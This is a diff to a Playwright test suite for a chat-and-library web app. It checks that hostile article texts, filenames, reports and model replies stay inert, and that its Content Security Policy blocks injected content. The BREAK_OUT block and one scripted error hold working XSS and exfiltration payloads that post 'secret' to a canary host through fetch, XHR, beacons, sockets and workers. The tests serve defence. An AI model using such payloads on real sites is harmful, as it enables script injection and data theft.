@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import itertools
+import json
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
@@ -25,7 +26,7 @@ SLOTS = {
     "evidence": "#fn-panel .fn-slot",
     "lists": "#fn-articles",
     "evaluations": "#fn-evaluations .fn-slot",
-    "drafts": "#fn-live",
+    "drafts": "#fn-live .html-container > div",
 }
 
 # Before anything of the page: traps for what would run, and counts of what would be loaded or was stopped.
@@ -50,7 +51,7 @@ LOOK = r"""
 window.strange = (slots) => {
   const names = new Set(('article section aside header nav div p span h1 h2 h3 h4 h5 h6 ul ol li dl dt dd a button form fieldset ' +
     'legend label input textarea select option details summary q blockquote mark strong em b code pre kbd small abbr sup br hr ' +
-    'table caption thead tbody tr th td progress figure figcaption svg g path line rect circle text title polyline polygon').split(' '));
+    'table caption bdi cite desc thead tbody tr th td progress figure figcaption svg g path line rect circle text title polyline polygon').split(' '));
   const links = new RegExp('^(#[a-z0-9.-]+|/saved/[\\w-]+/[\\d.]+\\.(md|docx|json)|/\\?c=[\\w-]*|/\\?q=[\\w%.~!*\'()/-]*)$');
   const inert = new Set(['style', 'src', 'srcset', 'poster', 'action', 'formaction', 'background', 'data', 'srcdoc', 'ping',
     'xlink:href', 'http-equiv', 'autofocus', 'contenteditable', 'manifest', 'is']);
@@ -153,10 +154,11 @@ def test_no_attack_runs_anywhere_with_the_policy_or_without(
         nonlocal elements
         elements += sum(page.put(slot, html) for page in pages)
 
-    for part in batched(all_texts, 60):
-        put("turns", "".join(attacks.turns(text, next(numbers)) for text in part))
-        put("evidence", "".join(map(attacks.evidence_of, part)))
-        put("lists", "".join(map(attacks.lists_of, part)))
+    for part in batched(all_texts, 64):
+        groups = [tuple(group) for group in batched(part, 8)]
+        put("turns", "".join(attacks.turns(group, next(numbers)) for group in groups))
+        put("evidence", "".join(map(attacks.evidence_of, groups)))
+        put("lists", "".join(map(attacks.lists_of, groups)))
         for page in pages:
             page.check_quiet()
     for part in batched(all_texts, 20):
@@ -181,3 +183,211 @@ def test_no_attack_runs_while_it_streams_in(
     page.check()
     assert canary.asked == []
     SUMMARY.add(streamed_beginnings_of_hostile_texts=shown)
+
+
+# ---------------------------------------------------------------- the whole way, from files and replies to the screen
+
+
+@pytest.fixture
+def hostile_url(
+    tmp_path: Path, canary: Canary, provider: Provider, all_texts: list[str]
+) -> Iterator[tuple[str, list[str]]]:
+    """The page of a library in which articles, names and reports are attacks, and the attacks it is made of."""
+    texts = [*attacks.ways_out(canary.host), *all_texts[200::45]]
+    articles, evaluations = tmp_path / "articles", tmp_path / "evaluations"
+    articles.mkdir()
+    evaluations.mkdir()
+    with (articles / "records.jsonl").open("w", encoding="utf-8") as file:
+        for n, text in enumerate(texts):
+            body = f"The bridge at Ostvik is {400 + n} metres long, says {text}.\n\n{text}"
+            record = {
+                "id": str(n),
+                "title": text or "x",
+                "text": body,
+                "author": text,
+                "url": f"http://{canary.host}/{n}",
+            }
+            file.write(json.dumps(record) + "\n")
+    for n, text in enumerate(texts[::8]):
+        name = text.replace("/", "∕").replace("\0", "").strip()[:60]
+        (articles / f"{n}{name}.md").write_text(
+            f"# {text}\n\nThe bridge at Ostvik was opened. {text}\n", encoding="utf-8"
+        )
+    folder = evaluations / texts[15].replace("/", "∕")
+    folder.mkdir()
+    whole = {**report(20), "unit": "questions", "dataset": texts[16]}
+    for result, text in zip(whole["results"], texts[15:], strict=False):
+        result |= {"text": text, "answer": text, "failure": "document not found"}
+    (folder / "report.json").write_text(json.dumps(whole), encoding="utf-8")
+    settings = Settings.model_validate(
+        {
+            "library": tmp_path / "library",
+            "articles": articles,
+            "model": "scripted",
+            "models": {"scripted": {"base_url": provider.base_url}},
+            "limits": {"questions_per_minute": 0},
+            "page": {"evaluations": evaluations},
+        }
+    )
+    with running(settings) as url:
+        yield url, texts
+
+
+def test_hostile_articles_questions_and_replies_stay_text(
+    watch: Callable[..., Watch], hostile_url: tuple[str, list[str]], provider: Provider, canary: Canary
+) -> None:
+    url, texts = hostile_url
+    # One by one, characters of a reply come as tokens do: the drafts between are what a reader would have seen.
+    reply = "\n\n".join(f"It is 412 metres long [{n % 8 + 1}]. {text}" for n, text in enumerate(texts))
+    provider.requests.clear()
+    provider.script[:] = [Scripted(list(reply)), error("<img src=x onerror=alert(1)>", 400)]
+    visit = watch(url)
+    page = visit.page
+    expect(page.locator(".fn-entry").nth(len(texts) - 1)).to_be_attached()
+    visit.check()
+    visit.ask(f"{QUESTION} {' '.join(texts[:40])}"[:7900], wait=False)
+    expect(page.locator(".fn-draft")).to_be_visible()
+    visit.check()
+    page.wait_for_selector("#fn-history .fn-turn", timeout=60_000)
+    visit.check()
+    assert texts[0] in page.locator(".fn-answer").inner_text()
+    visit.ask(QUESTION)  # the model's server refuses, in words of its own
+    expect(page.locator("#fn-history").get_by_role("alert")).to_be_visible()
+    visit.check()
+    _open_everything(visit)
+    reason = page.locator(".fn-reply").first
+    reason.get_by_role("button", name="Good answer").click()
+    reason.locator(".fn-reason input").fill(texts[15])
+    reason.get_by_role("button", name="Keep").click()
+    page.get_by_role("tab", name="Conversations").click()
+    page.locator('[data-do="rename"]').first.click()
+    page.locator(".fn-renaming").fill(texts[15])
+    page.keyboard.press("Enter")
+    expect(page.locator(".fn-chat .fn-title").first).to_have_text(texts[15])
+    visit.check()
+    page.reload()
+    page.locator("body[data-ready]").wait_for(state="attached")
+    expect(page.locator("#fn-history .fn-turn")).to_have_count(2)
+    assert texts[0] in page.locator("#fn-history .fn-answer").inner_text()
+    visit.check()
+    page.get_by_role("link", name="Evaluations").click()
+    page.locator('[data-do="evaluations-open"]').first.click()
+    expect(page.locator(".fn-report")).to_be_visible()
+    visit.check()
+    page.get_by_role("button", name="Open in the chat").or_(
+        page.get_by_role("link", name="Open in the chat")
+    ).first.click()
+    visit.check()
+    assert canary.asked == []
+    SUMMARY.add(hostile_texts_through_the_whole_program=len(texts))
+
+
+def _open_everything(visit: Watch) -> None:
+    """Open what leads further: footnotes, their cards, passages, why not, the article, words selected, the editor."""
+    page = visit.page
+    chips = page.locator("#fn-history a.cite")
+    for n in range(min(4, chips.count())):
+        chips.nth(n).hover()
+        expect(page.locator("#fn-card")).to_be_visible()
+        chips.nth(n).click()
+        expect(page.locator("#fn-side mark.current").first).to_be_attached()
+        visit.check()
+    page.locator("#fn-history a.fn-sources").first.click()
+    page.locator("#fn-side .fn-why > summary").click()
+    expect(page.locator('[data-evidence="why-of"]').first).to_be_visible()
+    page.locator('[data-evidence="why-of"]').first.click()
+    expect(page.locator(".fn-because").first).to_be_visible()
+    visit.check()
+    page.evaluate("document.getSelection().selectAllChildren(document.querySelector('.fn-answer p'))")
+    page.locator("#fn-origin").click()
+    expect(page.locator("#fn-side .fn-panel h2")).to_be_focused()
+    page.locator('[data-do="edit"]').first.click()
+    visit.check_quiet()
+    page.keyboard.press("Escape")
+    page.locator(".fn-entry .fn-title").nth(3).click()
+    expect(page.locator("#fn-side .fn-body")).to_be_visible()
+    visit.check()
+
+
+# ---------------------------------------------------------------- where escaping would fail
+
+
+BREAK_OUT = """
+async (host) => {
+  const url = (path) => `http://${host}/${path}`;
+  const put = (html) => {
+    const place = document.createElement('div');
+    place.innerHTML = html;
+    document.querySelector('#fn-history .fn-slot').append(place);
+    return place;
+  };
+  put(`<img src=${url('img')}><img srcset="${url('set')} 1x"><picture><source srcset=${url('source')}><img></picture>`);
+  put(`<video poster=${url('poster')} src=${url('video')}></video><audio src=${url('audio')}></audio>`);
+  put(`<svg><image href=${url('svg')} /></svg><div style="background:url(${url('css')})">x</div>`);
+  put(`<style>@import url(${url('import')}); @font-face { font-family: z; src: url(${url('font')}) } #fn-history { font-family: z }</style>`);
+  put(`<link rel=stylesheet href=${url('link')}><link rel=prefetch href=${url('prefetch')}><link rel=icon href=${url('icon')}>`);
+  put(`<iframe src=${url('frame')}></iframe><object data=${url('object')}></object><embed src=${url('embed')}>`);
+  put(`<img src=x onerror="window.ran = 'handler'"><a id=go href="javascript:window.ran='link'">x</a>`).querySelector('#go').click();
+  put(`<iframe srcdoc="<script>parent.ran='srcdoc'<${'/'}script>"></iframe>`);
+  for (const [name, value] of [['src', url('script')], ['textContent', "window.ran = 'inline'"]]) {
+    const script = document.createElement('script');
+    script[name] = value;
+    document.head.append(script);
+  }
+  for (const method of ['get', 'post']) put(`<form action=${url('form')} method=${method} target=_self></form>`).firstChild.submit();
+  put(`<base href=${url('base/')}><img src=relative>`);
+  const tries = {
+    fetch: () => fetch(url('fetch'), { mode: 'no-cors' }),
+    request: () => new Promise((done, fail) => {
+      const request = new XMLHttpRequest();
+      request.onload = done;
+      request.onerror = fail;
+      request.open('POST', url('xhr'));
+      request.send('secret');
+    }),
+    beacon: async () => { navigator.sendBeacon(url('beacon'), 'secret'); throw Error(); },
+    events: () => new Promise((done, fail) => Object.assign(new EventSource(url('events')), { onopen: done, onerror: fail })),
+    socket: () => new Promise((done, fail) => Object.assign(new WebSocket(`ws://${host}/socket`), { onopen: done, onerror: fail })),
+    worker: () => new Promise((done, fail) => Object.assign(new Worker(url('worker')), { onmessage: done, onerror: fail })),
+    module: () => import(url('module')),
+  };
+  const through = [];
+  for (const [name, attempt] of Object.entries(tries)) await attempt().then(() => through.push(name), () => {});
+  await new Promise((done) => setTimeout(done, 1000));
+  return { through, ran: window.ran || '', base: document.baseURI, at: location.href, stopped: window.trapped };
+}
+"""
+
+
+def test_the_policy_stops_what_escaping_would_have_let_through(
+    watch: Callable[..., Watch], quotes_url: str, canary: Canary
+) -> None:
+    visit = watch(quotes_url)
+    before = visit.page.url
+    canary.asked.clear()
+    found: dict[str, Any] = visit.page.evaluate(BREAK_OUT, canary.host)
+    assert found["through"] == []
+    assert found["ran"] == ""
+    assert found["base"].startswith(quotes_url)
+    assert found["at"] == before
+    assert canary.asked == []
+    stopped = {violation.split()[0] for violation in found["stopped"]}
+    SUMMARY.add(requests_stopped_by_the_policy=len(found["stopped"]))
+    assert stopped >= {"img-src", "media-src", "font-src", "style-src-elem", "frame-src", "object-src", "connect-src"} | {
+        "script-src-elem", "script-src-attr", "worker-src", "form-action", "base-uri",
+    }  # fmt: skip
+
+
+def test_every_response_carries_the_policy(watch: Callable[..., Watch], quotes_url: str) -> None:
+    policies: dict[str, str] = {}
+    visit = watch(quotes_url)
+    visit.page.on(
+        "response",
+        lambda response: policies.update({response.url: response.headers.get("content-security-policy", "")}),
+    )
+    visit.page.reload()
+    visit.page.locator("body[data-ready]").wait_for(state="attached")
+    assert len(policies) > 10
+    for address, policy in policies.items():
+        assert "default-src 'self'" in policy, address
+        assert "'unsafe-inline'" not in policy.partition("script-src")[2].partition(";")[0], address
